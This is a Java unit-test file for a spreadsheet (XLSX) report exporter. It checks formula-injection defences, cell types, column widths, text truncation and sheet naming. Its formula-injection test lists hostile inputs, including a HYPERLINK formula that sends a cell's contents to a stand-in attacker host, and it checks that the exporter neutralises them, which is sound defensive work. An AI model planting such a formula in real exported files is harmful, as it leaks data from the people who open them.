package io.sharehub.poi;

import static io.sharehub.poi.Xlsx.SHANGHAI;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.within;

import io.sharehub.InvalidInputException;
import io.sharehub.export.Column;
import io.sharehub.export.ColumnType;
import io.sharehub.export.ExportException;
import io.sharehub.export.Report;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.util.PaneInformation;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class XlsxReportWriterTest {
    @TempDir
    Path temp;

    XlsxReportWriter writer() {
        return XlsxReportWriter.builder().tempFolder(temp).build();
    }

    static Report campaigns(String... titles) {
        List<List<?>> rows = new ArrayList<>();
        for (String title : titles) {
            rows.add(Arrays.asList(title));
        }
        return Report.of("活动", SHANGHAI, List.of(Column.of("title", "标题", ColumnType.TEXT)), rows);
    }

    static final List<Column> LEDGER = List.of(
            Column.of("account", "账户", ColumnType.TEXT),
            Column.of("points", "积分", ColumnType.INTEGER),
            Column.of("rate", "比例", ColumnType.DECIMAL),
            Column.of("at", "时间", ColumnType.INSTANT),
            Column.of("day", "日期", ColumnType.DATE),
            Column.of("reversed", "已冲正", ColumnType.BOOLEAN));

    @Nested
    @DisplayName("formula injection")
    class FormulaInjection {
        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {
            "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"领取奖励\")",
            "@SUM(1,1)",
            "+86 138 0000 0000",
            "-10%优惠",
            "\t=1+1",
            "＝1+1",
            "＋1", "－1", "＠SUM(1)"})
        @DisplayName("formula-looking text is a string cell with exactly the text and the quote-prefix style")
        void formulaLookingTextIsQuotedString(String title) throws Exception {
            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), campaigns(title)))) {
                Cell cell = book.getSheetAt(0).getRow(1).getCell(0);

                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                assertThat(cell.getStringCellValue()).isEqualTo(title);
                assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
            }
        }

        @Test
        @DisplayName("ordinary text is a string cell without the quote prefix")
        void ordinaryText() throws Exception {
            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), campaigns("双十一 -10%", " =1", "")))) {
                XSSFSheet sheet = book.getSheetAt(0);
                for (int r = 1; r <= 3; r++) {
                    Cell cell = sheet.getRow(r).getCell(0);
                    assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                    assertThat(cell.getCellStyle().getQuotePrefixed()).isFalse();
                }
                assertThat(sheet.getRow(1).getCell(0).getStringCellValue()).isEqualTo("双十一 -10%");
                assertThat(sheet.getRow(2).getCell(0).getStringCellValue()).isEqualTo(" =1");
            }
        }

        @Test
        @DisplayName("no cell of the workbook is a formula")
        void noFormulas() throws Exception {
            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), campaigns("=1+1", "=SUM(A1:A2)", "@A1")))) {
                for (Row row : book.getSheetAt(0)) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                    }
                }
            }
        }
    }

    @Nested
    @DisplayName("typed cells")
    class TypedCells {
        final Instant reachedAt = Instant.parse("2024-03-01T01:30:00Z");

        byte[] ledger() {
            return Xlsx.write(writer(), Report.of("积分流水", SHANGHAI, LEDGER, List.of(
                    List.of("A1", -5L, new BigDecimal("-0.25"), reachedAt, LocalDate.of(2024, 3, 1), true),
                    Arrays.asList("A2", null, null, null, null, null))));
        }

        @Test
        @DisplayName("points −5 is the number −5, a decimal a number")
        void numbers() throws Exception {
            try (XSSFWorkbook book = Xlsx.read(ledger())) {
                Row row = book.getSheetAt(0).getRow(1);

                assertThat(row.getCell(1).getCellType()).isEqualTo(CellType.NUMERIC);
                assertThat(row.getCell(1).getNumericCellValue()).isEqualTo(-5.0);
                assertThat(row.getCell(1).getCellStyle().getQuotePrefixed()).isFalse();
                assertThat(row.getCell(2).getCellType()).isEqualTo(CellType.NUMERIC);
                assertThat(row.getCell(2).getNumericCellValue()).isEqualTo(-0.25);
            }
        }

        @Test
        @DisplayName("an instant is a date cell in the report's zone showing 2024-03-01 09:30")
        void instant() throws Exception {
            try (XSSFWorkbook book = Xlsx.read(ledger())) {
                Cell cell = book.getSheetAt(0).getRow(1).getCell(3);

                assertThat(cell.getCellType()).isEqualTo(CellType.NUMERIC);
                assertThat(cell.getNumericCellValue()).isCloseTo(45352.395833, within(0.000001));
                assertThat(DateUtil.isCellDateFormatted(cell)).isTrue();
                assertThat(cell.getCellStyle().getDataFormatString()).isEqualTo("yyyy-mm-dd hh:mm");
                assertThat(new DataFormatter().formatCellValue(cell)).isEqualTo("2024-03-01 09:30");
            }
        }

        @Test
        @DisplayName("a date is a date cell showing yyyy-mm-dd; a boolean a boolean cell")
        void dateAndBoolean() throws Exception {
            try (XSSFWorkbook book = Xlsx.read(ledger())) {
                Row row = book.getSheetAt(0).getRow(1);

                assertThat(row.getCell(4).getNumericCellValue()).isEqualTo(45352.0);
                assertThat(row.getCell(4).getCellStyle().getDataFormatString()).isEqualTo("yyyy-mm-dd");
                assertThat(new DataFormatter().formatCellValue(row.getCell(4))).isEqualTo("2024-03-01");
                assertThat(row.getCell(5).getCellType()).isEqualTo(CellType.BOOLEAN);
                assertThat(row.getCell(5).getBooleanCellValue()).isTrue();
            }
        }

        @Test
        @DisplayName("null is a blank cell, in a date column too")
        void nullIsBlank() throws Exception {
            try (XSSFWorkbook book = Xlsx.read(ledger())) {
                Row row = book.getSheetAt(0).getRow(2);

                for (int c = 1; c <= 5; c++) {
                    assertThat(row.getCell(c, Row.MissingCellPolicy.CREATE_NULL_AS_BLANK).getCellType())
                            .as("column %d", c).isEqualTo(CellType.BLANK);
                }
            }
        }

        @Test
        @DisplayName("numbers Excel cannot hold exactly are text with every digit")
        void hugeNumbersAsText() throws Exception {
            List<Column> columns = List.of(Column.of("shareId", "分享编号", ColumnType.INTEGER),
                    Column.of("amount", "金额", ColumnType.DECIMAL));
            Report report = Report.of("分享", SHANGHAI, columns, List.of(
                    List.of(999_999_999_999_999L, new BigDecimal("1234567890.12345")),
                    List.of(7_234_567_890_123_456_789L, new BigDecimal("1234567890.123456")),
                    List.of(Long.MIN_VALUE, new BigDecimal("1E+400"))));

            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), report))) {
                XSSFSheet sheet = book.getSheetAt(0);

                assertThat(sheet.getRow(1).getCell(0).getNumericCellValue()).isEqualTo(999_999_999_999_999.0);
                assertThat(sheet.getRow(1).getCell(1).getNumericCellValue()).isEqualTo(1234567890.12345);
                assertThat(sheet.getRow(2).getCell(0).getStringCellValue()).isEqualTo("7234567890123456789");
                assertThat(sheet.getRow(2).getCell(1).getStringCellValue()).isEqualTo("1234567890.123456");
                assertThat(sheet.getRow(3).getCell(0).getStringCellValue()).isEqualTo("-9223372036854775808");
                assertThat(sheet.getRow(3).getCell(0).getCellStyle().getQuotePrefixed()).isTrue();
                assertThat(sheet.getRow(3).getCell(1).getStringCellValue()).startsWith("1000000000");
            }
        }

        @Test
        @DisplayName("instants and dates Excel cannot show are ISO text")
        void outOfRangeDates() throws Exception {
            List<Column> columns = List.of(Column.of("at", "时间", ColumnType.INSTANT),
                    Column.of("day", "日期", ColumnType.DATE));
            Report report = Report.of("早", SHANGHAI, columns, List.of(
                    List.of(Instant.parse("1800-01-01T00:00:00Z"), LocalDate.of(1899, 12, 31))));

            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), report))) {
                Row row = book.getSheetAt(0).getRow(1);

                assertThat(row.getCell(0).getStringCellValue()).isEqualTo("1800-01-01 08:05:43");
                assertThat(row.getCell(1).getStringCellValue()).isEqualTo("1899-12-31");
            }
        }

        @Test
        @DisplayName("one cell style per format, shared by every cell, however many rows")
        void oneStylePerFormat() throws Exception {
            Report report = Xlsx.generated("流水", LEDGER, 2_000, (i, sink) -> sink.accept(List.of(
                    i % 2 == 0 ? "=cmd" + i : "A" + i, -i, BigDecimal.valueOf(i, 2), reachedAt.plusSeconds(i * 60),
                    LocalDate.of(2024, 1, 1).plusDays(i % 300), i % 3 == 0)));

            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), report))) {
                XSSFSheet sheet = book.getSheetAt(0);
                Set<Short> instantStyles = new HashSet<>();
                Set<Short> dateStyles = new HashSet<>();
                Set<Short> quotedStyles = new HashSet<>();
                for (int r = 1; r <= 2_000; r++) {
                    Row row = sheet.getRow(r);
                    instantStyles.add(row.getCell(3).getCellStyle().getIndex());
                    dateStyles.add(row.getCell(4).getCellStyle().getIndex());
                    if (r % 2 == 1) {
                        quotedStyles.add(row.getCell(0).getCellStyle().getIndex());
                    }
                }

                assertThat(instantStyles).hasSize(1);
                assertThat(dateStyles).hasSize(1);
                assertThat(quotedStyles).hasSize(1);
                // the default, the bold header, quote-prefixed text, instants and dates
                assertThat(book.getNumCellStyles()).isEqualTo(5);
            }
        }
    }

    @Nested
    @DisplayName("layout")
    class Layout {
        @Test
        @DisplayName("the header row is bold and frozen")
        void frozenBoldHeader() throws Exception {
            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), campaigns("a")))) {
                XSSFSheet sheet = book.getSheetAt(0);
                PaneInformation pane = sheet.getPaneInformation();
                Cell header = sheet.getRow(0).getCell(0);

                assertThat(pane.isFreezePane()).isTrue();
                assertThat(pane.getHorizontalSplitTopRow()).isEqualTo((short) 1);
                assertThat(pane.getVerticalSplitLeftColumn()).isZero();
                assertThat(header.getStringCellValue()).isEqualTo("标题");
                assertThat(book.getFontAt(header.getCellStyle().getFontIndex()).getBold()).isTrue();
            }
        }

        @Test
        @DisplayName("column widths follow the widest value, CJK counting double, capped at 60")
        void columnWidths() throws Exception {
            List<Column> columns = List.of(Column.of("latin", "a", ColumnType.TEXT), Column.of("han", "b", ColumnType.TEXT),
                    Column.of("long", "c", ColumnType.TEXT), Column.of("short", "d", ColumnType.TEXT),
                    Column.of("lines", "e", ColumnType.TEXT));
            Report report = Report.of("宽度", SHANGHAI, columns, List.of(
                    List.of("abcdefghij", "双十一预热活动第一波", "x".repeat(1_000), "a", "12345678901234\nab"),
                    List.of("abc", "双十一", "y", "b", "c")));

            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), report))) {
                XSSFSheet sheet = book.getSheetAt(0);

                assertThat(sheet.getColumnWidth(0)).isEqualTo((10 + 2) * 256);
                assertThat(sheet.getColumnWidth(1)).isEqualTo((20 + 2) * 256);
                assertThat(sheet.getColumnWidth(2)).isEqualTo(60 * 256);
                assertThat(sheet.getColumnWidth(3)).isEqualTo((6 + 2) * 256);
                assertThat(sheet.getColumnWidth(4)).isEqualTo((14 + 2) * 256);
            }
        }
    }

    @Nested
    @DisplayName("long text")
    class LongText {
        @Test
        @DisplayName("a 40,000-character description is cut to at most 32,767 characters ending with …")
        void longDescription() throws Exception {
            String description = "素材说明".repeat(10_000);

            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), campaigns(description)))) {
                String text = book.getSheetAt(0).getRow(1).getCell(0).getStringCellValue();

                assertThat(text.length()).isLessThanOrEqualTo(32_767);
                assertThat(text).endsWith("…");
                assertThat(description).startsWith(text.substring(0, text.length() - 1));
            }
        }

        @ParameterizedTest(name = "after \"{0}\"")
        @ValueSource(strings = {"", "a"})
        @DisplayName("20,000 🔥 are cut without a lone surrogate, whichever the cut's parity")
        void emojiCut(String lead) throws Exception {
            String fire = lead + "🔥".repeat(20_000);

            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), campaigns(fire)))) {
                String text = book.getSheetAt(0).getRow(1).getCell(0).getStringCellValue();

                assertThat(text.length()).isLessThanOrEqualTo(32_767);
                assertThat(text).endsWith("…");
                assertThat(fire).startsWith(text.substring(0, text.length() - 1));
                for (int i = 0; i < text.length(); i++) {
                    char c = text.charAt(i);
                    if (Character.isHighSurrogate(c)) {
                        assertThat(Character.isLowSurrogate(text.charAt(i + 1))).as("pair at %d", i).isTrue();
                        i++;
                    } else {
                        assertThat(Character.isSurrogate(c)).as("lone surrogate at %d", i).isFalse();
                    }
                }
            }
        }

        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {"_x0041_", "a_x0041_x0042_b", "_X00e9_", "_x004", "bell\u0007 and nul\u0000",
            "not a char \uFFFE", "tab\tcr\rlf\n", "_x005F_"})
        @DisplayName("escape-like sequences and control characters read back exactly")
        void exactText(String text) throws Exception {
            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), campaigns(text)))) {
                assertThat(book.getSheetAt(0).getRow(1).getCell(0).getStringCellValue()).isEqualTo(text);
            }
        }

        @Test
        @DisplayName("the 32,767 limit holds for text as read back, escapes included")
        void limitCountsReadBackText() throws Exception {
            String text = "_x0041_".repeat(5_000);

            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), campaigns(text)))) {
                String read = book.getSheetAt(0).getRow(1).getCell(0).getStringCellValue();

                assertThat(read).endsWith("…");
                assertThat(text).startsWith(read.substring(0, read.length() - 1));
                assertThat(read.length()).isLessThanOrEqualTo(32_767);
            }
        }

        @Test
        @DisplayName("text of exactly 32,767 characters is kept whole")
        void exactLimit() throws Exception {
            String text = "x".repeat(32_767);

            try (XSSFWorkbook book = Xlsx.read(Xlsx.write(writer(), campaigns(text)))) {
                assertThat(book.getSheetAt(0).getRow(1).getCell(0).getStringCellValue()).isEqualTo(text);
            }
        }
    }

    @Nested
    @DisplayName("several reports in one workbook")
    class SeveralReports {
        @Test
        @DisplayName("campaign names become five valid, distinct sheet names")
        void campaignSheetNames() throws Exception {
            List<Report> leaderboards = new ArrayList<>();
            for (String campaign : List.of("2024/11 双十一:预热[第一波]*?", "History", "'内部'", "Q1", "q1")) {
                leaderboards.add(Report.of(campaign, SHANGHAI, Xlsx.MATERIAL_VIEWS, List.of(List.of(campaign, 1L))));
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();

            writer().writeAll(leaderboards, out);

            try (XSSFWorkbook book = Xlsx.read(out.toByteArray())) {
                List<String> names = new ArrayList<>();
                for (int s = 0; s < book.getNumberOfSheets(); s++) {
                    names.add(book.getSheetName(s));
                    assertThat(book.getSheetAt(s).getRow(1).getCell(0).getStringCellValue())
                            .isEqualTo(leaderboards.get(s).title());
                }
                assertThat(names).containsExactly("2024_11 双十一_预热_第一波___", "History_", "内部", "Q1", "q1(2)");
                assertThat(names).allSatisfy(SheetNamesTest::assertValidForExcel);
                assertThat(names.stream().map(n -> n.toLowerCase(java.util.Locale.ROOT)).distinct()).hasSize(5);
            }
        }

        @Test
        @DisplayName("an empty list of reports is refused")
        void noReports() {
            assertThatThrownBy(() -> writer().writeAll(List.of(), new ByteArrayOutputStream()))
                    .isInstanceOfSatisfying(InvalidInputException.class, e -> assertThat(e.field()).isEqualTo("reports"));
        }
    }

    @Nested
    @DisplayName("contract")
    class Contract {
        @Test
        @DisplayName("progress is told every N rows across the reports and once at the end")
        void progress() {
            List<Long> told = new ArrayList<>();
            XlsxReportWriter writer = XlsxReportWriter.builder().tempFolder(temp).progress(told::add).progressEvery(1_000)
                    .build();

            writer.writeAll(List.of(Xlsx.materialViews(1_500), Xlsx.materialViews(1_000)), new ByteArrayOutputStream());

            assertThat(told).containsExactly(1_000L, 2_000L, 2_500L);
        }

        @Test
        @DisplayName("the stream is flushed and not closed")
        void streamNotClosed() {
            boolean[] closed = {false};
            ByteArrayOutputStream out = new ByteArrayOutputStream() {
                @Override
                public void close() {
                    closed[0] = true;
                }
            };

            writer().write(campaigns("a"), out);

            assertThat(closed[0]).isFalse();
            assertThat(out.size()).isPositive();
        }

        @Test
        @DisplayName("a row that does not fit the columns is an export error naming the row and column")
        void badRow() {
            Report report = Xlsx.generated("素材统计", Xlsx.MATERIAL_VIEWS, 10,
                    (i, sink) -> sink.accept(i == 7 ? List.of("m", "seven") : List.of("m", i)));

            assertThatThrownBy(() -> writer().write(report, new ByteArrayOutputStream()))
                    .isInstanceOf(ExportException.class)
                    .hasMessageContaining("data row 8")
                    .cause().isInstanceOfSatisfying(InvalidInputException.class,
                            e -> assertThat(e.field()).isEqualTo("row.views"));
        }

        @Test
        @DisplayName("bad configuration and reports are refused, naming the field")
        void badInput() {
            List<Column> tooMany = new ArrayList<>();
            for (int c = 0; c <= XlsxReportWriter.MAX_COLUMNS; c++) {
                tooMany.add(Column.of("c" + c, "C" + c, ColumnType.TEXT));
            }
            Report wide = Report.of("宽", SHANGHAI, tooMany, List.of());

            assertThatThrownBy(() -> writer().write(wide, new ByteArrayOutputStream()))
                    .isInstanceOfSatisfying(InvalidInputException.class,
                            e -> assertThat(e.field()).isEqualTo("report.columns"));
            assertThatThrownBy(() -> writer().write(campaigns("a"), null))
                    .isInstanceOfSatisfying(InvalidInputException.class, e -> assertThat(e.field()).isEqualTo("out"));
            assertThatThrownBy(() -> XlsxReportWriter.builder().rowAccessWindow(0))
                    .isInstanceOfSatisfying(InvalidInputException.class,
                            e -> assertThat(e.field()).isEqualTo("rowAccessWindow"));
            assertThatThrownBy(() -> XlsxReportWriter.builder().tempFolder(null))
                    .isInstanceOfSatisfying(InvalidInputException.class, e -> assertThat(e.field()).isEqualTo("tempFolder"));
            assertThatThrownBy(() -> XlsxReportWriter.builder().progressEvery(0))
                    .isInstanceOfSatisfying(InvalidInputException.class,
                            e -> assertThat(e.field()).isEqualTo("progressEvery"));
        }

        @Test
        @DisplayName("extension and content type")
        void extensionAndContentType() {
            assertThat(writer().extension()).isEqualTo("xlsx");
            assertThat(writer().contentType())
                    .isEqualTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        }
    }
}
